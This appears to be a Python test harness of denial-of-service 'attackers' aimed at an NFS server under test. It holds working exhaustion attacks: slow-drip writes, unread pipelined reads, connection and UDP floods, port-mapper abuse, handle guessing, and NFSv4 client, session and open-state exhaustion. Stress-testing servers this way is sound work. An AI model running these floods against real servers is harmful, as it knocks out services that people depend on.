#!/usr/bin/env python3
"""Attackers of an NFS server, each as a class and as a program of its own.

    attackers.py NAME --port N [--host H] [--export /] [--second /b] [--rate N] [--seed N]

takes its words from standard input: it prints `ready` when it has what it needs, begins at `go`, and ends at `drain` (it
first reads the replies to all it has sent) or `quit` (it closes everything at once). Its last line is a report in JSON.
`process.Attacker` is the other side.

An attacker never blocks, opens another connection for each one that the server closes, and checks the form of every reply.
The export is as export.py leaves it.
"""
import argparse
import json
import os
import pathlib
import random
import resource
import select
import socket
import struct
import sys
import time

HERE = pathlib.Path(__file__).resolve().parent
sys.path[:0] = [str(HERE), str(HERE.parent)]
import export  # noqa: E402
import streams  # noqa: E402
import wire  # noqa: E402
import wire4  # noqa: E402
from patience import PATIENCE_S  # noqa: E402

MIB = 1 << 20
TURN_S = 0.02
CONNECTS_PER_TURN = 64
FEED_AHEAD = 1 << 18  # bytes that wait to be sent; without a limit, memory of the attacker is what runs out


class Attack:
    """Connections, as many as `wanted`, that `feed` gives something to send."""
    wanted, reads, receive_buffer = 16, True, None

    def __init__(self, given):
        self.given, self.address = given, (given.host, given.port)
        self.random = random.Random(given.seed)
        self.report = streams.Report()
        self.streams, self.by_descriptor = set(), {}
        self.poller = select.epoll()
        self.began, self.draining = time.monotonic(), False

    def prepare(self):
        with wire.Connection(*self.address, PATIENCE_S) as polite:
            self.root = polite.mount(self.given.export, self.given.mount_port)
            self.find(polite)

    def find(self, polite):
        """Handles that the attack needs."""
        self.cold = [polite.lookup(self.root, export.cold(i)) for i in range(export.COLD_FILES)]
        self.cold_mib = polite.size_of(self.cold[0]) // MIB

    def begin(self):
        self.began = time.monotonic()

    def may(self):
        """Whether --rate allows another call."""
        rate = self.given.rate
        return not rate or self.report.calls < rate * (time.monotonic() - self.began)

    def feed(self, stream):
        """Adds calls to a connection that has little left to send."""

    def finish(self, stream):
        """Before the replies are read: has the connection send what a well-behaved client would."""
        stream.reads = True

    def turn(self):
        if not self.draining:
            for _ in range(min(CONNECTS_PER_TURN, self.wanted - len(self.streams))):
                if not self.open():
                    break
            for stream in self.streams:
                if len(stream.unsent) < FEED_AHEAD:
                    self.feed(stream)
                self.watch(stream)
        for descriptor, events in self.poller.poll(TURN_S):
            self.handle(self.by_descriptor[descriptor], events)

    def open(self):
        try:
            stream = streams.Stream(self.address, self.report, self.reads, self.receive_buffer)
        except OSError:
            self.report.refused += 1
            return False
        self.streams.add(stream)
        self.by_descriptor[stream.fileno()] = stream
        stream.watched = select.EPOLLOUT
        self.poller.register(stream, stream.watched)
        return True

    def watch(self, stream):
        # One that does not read still has to notice that the server has closed it.
        wanted = select.EPOLLIN if stream.reads else select.EPOLLRDHUP
        if stream.unsent or not stream.connected:
            wanted |= select.EPOLLOUT
        if stream.watched != wanted:
            self.poller.modify(stream, wanted)
            stream.watched = wanted

    def handle(self, stream, events):
        alive = stream.send() if events & select.EPOLLOUT or not stream.connected else True
        if alive and events & ~select.EPOLLOUT:
            alive = stream.receive() if stream.reads else stream.ended()
        if alive:
            self.watch(stream)
        else:
            self.forget(stream)

    def forget(self, stream):
        self.poller.unregister(stream)
        del self.by_descriptor[stream.fileno()]
        self.streams.discard(stream)
        stream.close()

    def drain(self):
        """Until every call is answered or its connection closed."""
        self.draining = True
        for stream in list(self.streams):
            self.finish(stream)
            if stream in self.streams:
                self.watch(stream)
        end = time.monotonic() + PATIENCE_S
        while time.monotonic() < end and any(stream.waiting or stream.unsent for stream in self.streams):
            self.turn()
        self.report.unanswered = sum(len(stream.waiting) for stream in self.streams)

    def end(self):
        for stream in list(self.streams):
            self.forget(stream)


class NonReaders(Attack):
    """Pipelines READs of 1 MiB and reads no reply."""
    wanted, reads, receive_buffer = 12, False, 4096
    depth = 256

    def feed(self, stream):
        while len(stream.waiting) < self.depth and self.may():
            offset = self.random.randrange(self.cold_mib) * MIB
            stream.add(wire.NFS, wire.READ, wire.read_arguments(self.random.choice(self.cold), offset, MIB))

    def finish(self, stream):
        """One of them reads 256 MiB, which shows that what was kept is right; for all it would take long."""
        if any(other.reads for other in self.streams):
            self.forget(stream)
            return
        super().finish(stream)
        stream.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, MIB)


class Drippers(Attack):
    """Begins WRITEs of 1 MiB and sends the rest a byte at a time: most of them all but the last bytes, some hardly any."""
    wanted, interval_s, kept_back, generous_share = 400, 0.1, 600, 0.8

    def find(self, polite):
        self.file = polite.lookup(self.root, export.TARGET)
        self.next_drip = 0

    def feed(self, stream):
        if stream.waiting or not self.may():
            return
        stream.add(wire.NFS, wire.WRITE, wire.write_arguments(self.file, 0, bytes(MIB)))
        generous = self.random.random() < self.generous_share
        first = len(stream.unsent) - self.kept_back if generous else 60
        stream.rest, stream.unsent = stream.unsent[first:], stream.unsent[:first]

    def turn(self):
        now = time.monotonic()
        if now >= self.next_drip and not self.draining:
            self.next_drip = now + self.interval_s
            for stream in self.streams:
                if stream.rest and not stream.unsent:
                    stream.unsent += stream.rest[:1]
                    del stream.rest[:1]
        super().turn()

    def finish(self, stream):
        stream.unsent += stream.rest
        stream.rest.clear()


class ColdReads(Attack):
    """Pipelines READs of what is not in the page cache, and reads the replies."""
    wanted, depth = 16, 64

    def feed(self, stream):
        while len(stream.waiting) < self.depth and self.may():
            size = self.random.choice((4096, 65536, MIB))
            offset = self.random.randrange(self.cold_mib) * MIB
            stream.add(wire.NFS, wire.READ, wire.read_arguments(self.random.choice(self.cold), offset, size))


class ListingStorm(Attack):
    """Pipelines READDIRPLUS of a large directory on many connections."""
    wanted, depth = 100, 40

    def find(self, polite):
        self.listing = polite.lookup(self.root, export.LISTING)

    def feed(self, stream):
        while len(stream.waiting) < self.depth and self.may():
            stream.add(wire.NFS, wire.READDIRPLUS, wire.listing_arguments(self.listing))


class ConnectionFlood(Attack):
    """Opens connections as fast as it can. Half of them say nothing, the others make one NULL call."""
    wanted = 3000

    def find(self, polite):
        pass

    def open(self):
        return self.may() and super().open()

    def feed(self, stream):
        if not stream.called and stream.connected and stream.fileno() % 2:
            stream.add(wire.NFS, wire.NULL, b"")


class FrozenExport(Attack):
    """Calls of every kind to an export whose file system does not answer."""
    wanted, depth = 16, 128

    def find(self, polite):
        self.second = polite.mount(self.given.second, self.given.mount_port)
        self.file = polite.lookup(self.second, export.TARGET)

    def feed(self, stream):
        while len(stream.waiting) < self.depth and self.may():
            name = f"made-{self.random.randrange(1000)}"
            stream.add(wire.NFS, *self.random.choice((
                (wire.LOOKUP, wire.name_in(self.second, name)),
                (wire.CREATE, wire.create_arguments(self.second, name)),
                (wire.WRITE, wire.write_arguments(self.file, self.random.randrange(64) * 4096, bytes(4096), stable=2)),
                (wire.READ, wire.read_arguments(self.file, 0, 4096)),
                (wire.SETATTR, wire.mode_arguments(self.file, self.random.choice((0o600, 0o644)))),
                (wire.REMOVE, wire.name_in(self.second, name)))))


class HandleGuessing(Attack):
    """GETATTR with handles that the server never gave: random ones, and a real one with bits flipped."""
    wanted, depth = 4, 64

    def guess(self):
        if self.random.random() < 0.5:
            return self.random.randbytes(self.random.choice((0, 4, 16, 28, 32, 32, 32, 64)))
        flipped = bytearray(self.cold[0])
        for _ in range(self.random.choice((1, 1, 2, 8))):
            flipped[self.random.randrange(len(flipped))] ^= 1 << self.random.randrange(8)
        return bytes(flipped) if flipped != self.cold[0] else b""

    def feed(self, stream):
        while len(stream.waiting) < self.depth and self.may():
            stream.add(wire.NFS, wire.GETATTR, wire.opaque(self.guess()))


class Introductions(Attack):
    """EXCHANGE_ID with a new and long name in each call, and nothing after it."""
    wanted, depth = 4, 256

    def find(self, polite):
        self.made = 0

    def feed(self, stream):
        while len(stream.waiting) < self.depth and self.may():
            self.made += 1
            name = struct.pack(">Q", self.made).ljust(wire4.NAME_SIZE, b"n")
            stream.add(wire.NFS, wire4.COMPOUND, wire4.compound(wire4.exchange_id(name)), wire4.VERSION)


class Sessions(Attack):
    """New clients, each with as many sessions as it gets. All channels have the largest sizes there are, and each slot is used once, for a
    reply that the server has to keep."""
    wanted = 16

    def find(self, polite):
        self.made = 0

    def add(self, stream, then, *operations):
        stream.add(wire.NFS, wire4.COMPOUND, wire4.compound(*operations), wire4.VERSION, then)

    def feed(self, stream):
        if stream.waiting or not self.may():
            return
        self.made += 1
        name = struct.pack(">QI", self.made, stream.xid).ljust(wire4.NAME_SIZE, b"s")
        self.add(stream, lambda head: self.introduced(stream, head), wire4.exchange_id(name))

    def introduced(self, stream, head):
        if struct.unpack_from(">I", head, wire4.RESULT_AT + 4)[0] == wire4.OK:
            client, number = struct.unpack_from(">QI", head, wire4.ID_AT)
            self.ask(stream, client, number)

    def ask(self, stream, client, number):
        self.add(stream, lambda head: self.connected(stream, client, number, head),
                 wire4.create_session(client, number, wire4.WORD_MAX, wire4.WORD_MAX))

    def connected(self, stream, client, number, head):
        if self.draining or struct.unpack_from(">I", head, wire4.RESULT_AT + 4)[0] != wire4.OK:
            return
        session = head[wire4.ID_AT:wire4.ID_AT + 16]
        for slot in range(64):
            self.add(stream, None, wire4.sequence(session, 1, slot), wire4.put(self.root), wire4.get_all_attributes())
        self.ask(stream, client, number + 1)


class Opens(Attack):
    """One client that opens one new file after another and closes none."""
    wanted, slots = 1, 64

    def find(self, polite):
        self.numbers, self.made = [0] * self.slots, 0
        self.session = wire4.Client(polite, b"opens").session

    def feed(self, stream):
        if stream.connected and not stream.called:
            for slot in range(self.slots):
                self.open_next(stream, slot)

    def open_next(self, stream, slot):
        if self.draining:
            return
        self.numbers[slot] += 1
        self.made += 1
        operations = wire4.sequence(self.session, self.numbers[slot], slot), wire4.put(self.root), wire4.open_new(b"open-%d" % self.made)
        stream.add(wire.NFS, wire4.COMPOUND, wire4.compound(*operations), wire4.VERSION, lambda _: self.open_next(stream, slot))


def portmap_call(rng):
    """(procedure, version, body) of a call to the port mapper: SET, UNSET, GETPORT, DUMP, CALLIT, and DUMP of rpcbind."""
    mapping = struct.pack(">4I", rng.choice((wire.NFS, rng.randrange(0x20000000, 0x20010000))), rng.randrange(1, 4),
                          rng.choice((6, 17)), rng.randrange(1024, 65536))
    return rng.choice(((1, 2, mapping), (1, 2, mapping), (2, 2, mapping), (3, 2, mapping), (4, 2, b""), (4, 4, b""),
                       (5, 2, struct.pack(">3I", wire.NFS, 3, 0) + wire.opaque(b""))))


class PortmapFlood(Attack):
    """SET, UNSET, GETPORT, DUMP and CALLIT to the port mapper, over TCP."""
    wanted, depth = 16, 64

    def find(self, polite):
        pass

    def feed(self, stream):
        while len(stream.waiting) < self.depth and self.may():
            procedure, version, body = portmap_call(self.random)
            stream.add(wire.PORTMAP, procedure, body, version)


class UdpFlood(Attack):
    """Datagrams: calls of NFS, MOUNT and the port mapper, and garbage. Replies are read and dropped."""
    wanted, batch = 0, 200

    def begin(self):
        super().begin()
        self.socket_context = streams.datagrams(self.address)
        self.socket = self.socket_context.__enter__()

    def message(self):
        rng, xid = self.random, self.random.getrandbits(32)
        if rng.random() < 0.25:
            return rng.randbytes(rng.choice((0, 1, 3, 28, 40, 200, 1400)))
        procedure, version, body = portmap_call(rng)
        message = rng.choice((
            lambda: wire.call(xid, wire.NFS, wire.NULL),
            lambda: wire.call(xid, wire.NFS, wire.GETATTR, wire.opaque(self.root)),
            lambda: wire.call(xid, wire.NFS, wire.READ, wire.read_arguments(self.cold[0], 0, 32768)),
            lambda: wire.call(xid, wire.NFS, wire.READDIRPLUS, wire.listing_arguments(self.root)),
            lambda: wire.call(xid, wire.MOUNT, wire.MNT, wire.opaque(self.given.export.encode())),
            lambda: wire.call(xid, wire.PORTMAP, procedure, body, version)))()
        return message[:rng.randrange(len(message))] if rng.random() < 0.1 else message

    def turn(self):
        sent = 0
        while sent < self.batch and self.may() and not self.draining:
            try:
                self.report.sent_bytes += self.socket.send(self.message())
            except BlockingIOError:
                break
            except OSError:  # the answer to an earlier datagram: port unreachable
                self.report.refused += 1
            self.report.calls += 1
            sent += 1
        try:
            while True:
                self.report.received_bytes += len(self.socket.recv(65536))
                self.report.replies += 1
        except OSError:
            pass
        if sent < self.batch:
            time.sleep(0.001)

    def end(self):
        self.socket_context.__exit__(None, None, None)


ATTACKS = {"non_readers": NonReaders, "drippers": Drippers, "cold_reads": ColdReads, "listing_storm": ListingStorm,
           "connection_flood": ConnectionFlood, "frozen_export": FrozenExport, "udp_flood": UdpFlood,
           "handle_guessing": HandleGuessing, "portmap_flood": PortmapFlood, "introductions": Introductions,
           "sessions": Sessions, "opens": Opens}


def arguments():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--mount-port", type=int, help="of MOUNT, if it is another one")
    parser.add_argument("--export", default="/", help="what is attacked (/)")
    parser.add_argument("--second", default="/", help="the export whose file system is frozen")
    parser.add_argument("--rate", type=float, default=0, help="calls per second at most; 0: as many as it can")
    parser.add_argument("--seed", type=int, default=1)
    return parser.parse_args()


def allow_many_descriptors():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def main():
    allow_many_descriptors()
    given = arguments()
    attack = ATTACKS[given.name](given)
    attack.prepare()
    print("ready", flush=True)
    words = sys.stdin.buffer
    if words.readline() != b"go\n":
        return 1
    os.set_blocking(words.fileno(), False)
    attack.begin()
    said = b""
    while not said.endswith(b"\n"):
        attack.turn()
        piece = words.raw.read(64)
        if piece == b"":  # whoever started this is gone
            break
        said += piece or b""
    if said == b"drain\n":
        attack.drain()
    attack.end()
    print(json.dumps(attack.report.as_dict()), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
